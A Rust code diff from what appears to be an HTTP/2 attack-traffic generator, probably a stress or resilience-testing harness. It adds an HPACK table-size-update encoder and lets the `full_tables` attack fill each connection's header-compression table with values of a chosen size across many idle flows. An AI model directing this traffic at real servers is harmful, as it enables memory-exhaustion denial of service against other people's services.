@@ -17,6 +17,12 @@ fn literal(byte: u8, len_bytes: usize) -> Vec<u8> {
     [&[0x40, 1, b'x'][..], &length, &vec![byte; len_bytes]].concat()
 }
 
+/// The table has `bytes` at most, of which there are more than 158.
+fn size_update(bytes: usize) -> [u8; 3] {
+    let rest = bytes - 31;
+    [0x3f, 0x80 | (rest % 128) as u8, (rest / 128) as u8]
+}
+
 /// What `flow_count` clients send in turn: a beginning, then `next` with the number of the round.
 fn in_turn(
     flow_count: u64,
@@ -93,16 +99,21 @@ pub fn open_streams(flow_count: u64) -> impl Attack {
 }
 
 /// Connections with a full table in both directions, idle after each exchange. The field that is
-/// inserted has the number of its connection; later requests and responses refer to it.
-pub fn full_tables(flow_count: u64) -> impl Attack {
+/// inserted, with a value of `value_bytes`, has the number of its connection; later requests and
+/// responses refer to it.
+pub fn full_tables(flow_count: u64, value_bytes: usize) -> impl Attack {
     let mut sent = vec![[1_u32; 2]; flow_count as usize];
     move |number: u64, out: &mut Vec<u8>| {
         let (round, place) = (number / 2 / flow_count, number / 2 % flow_count);
         let is_answer = number % 2 == 1;
         let mark = b'a' + (place % 26) as u8;
         let start: &[u8] = if is_answer { &[0x88] } else { &GET };
-        let field = if round == 0 { literal(mark, 3900) } else { vec![0xbe] };
-        let headers = frame(HEADERS, WHOLE, stream(round), &[start, &field].concat());
+        let block = match round {
+            0 => [&size_update(1 + value_bytes + 32)[..], start, &literal(mark, value_bytes)]
+                .concat(),
+            _ => [start, &[0xbe]].concat(),
+        };
+        let headers = frame(HEADERS, WHOLE, stream(round), &block);
         let payload = match (round, is_answer) {
             (0, false) => begin(&headers),
             (0, true) => [frame(SETTINGS, 0, 0, &[]), headers].concat(),
